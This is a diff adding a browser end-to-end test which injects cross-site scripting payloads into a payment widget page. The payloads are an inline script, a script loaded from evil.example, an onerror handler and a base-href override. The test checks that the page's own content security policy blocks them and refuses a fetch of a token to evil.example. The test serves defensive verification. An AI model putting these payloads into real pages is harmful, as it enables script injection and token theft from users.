@@ -1,0 +1,44 @@
+import { expect, test } from './test';
+
+const injected = `
+  <script>window.injected = 'inline'</script>
+  <script src="https://evil.example/x.js"></script>
+  <img src="data:," alt="" onerror="window.injected = 'handler'">
+  <base href="https://evil.example/">`;
+
+test.use({ transport: 'socket' });
+
+test('on a server that sends no policy, the page’s own stops what was injected, and the widget works (B4)', async ({
+  page,
+  openList,
+  host,
+}) => {
+  const evil: string[] = [];
+  const sockets: string[] = [];
+  await page.route('https://evil.example/**', async (route) => {
+    evil.push(route.request().url());
+    await route.fulfill({ contentType: 'text/javascript', body: 'window.injected = "foreign"' });
+  });
+  await page.route(/\/paywidget\/[^.]*$/, async (route) => {
+    const response = await route.fetch();
+    const { 'content-security-policy': policy, ...headers } = response.headers();
+    expect(policy).toContain('frame-ancestors');
+    const body = (await response.text()).replace('<body>', `<body>${injected}`);
+    await route.fulfill({ status: response.status(), headers, body });
+  });
+  page.on('websocket', (socket) => sockets.push(socket.url()));
+  await openList();
+  expect(sockets, 'the socket of the site is allowed').not.toEqual([]);
+
+  const frame = await host.frame();
+  expect(await frame.evaluate(() => 'injected' in window)).toBe(false);
+  expect(await frame.evaluate(() => document.baseURI)).not.toContain('evil');
+  const sent = await frame.evaluate(() =>
+    fetch('https://evil.example/token').then(
+      () => 'sent',
+      () => 'refused',
+    ),
+  );
+  expect(sent).toBe('refused');
+  expect(evil).toEqual([]);
+});
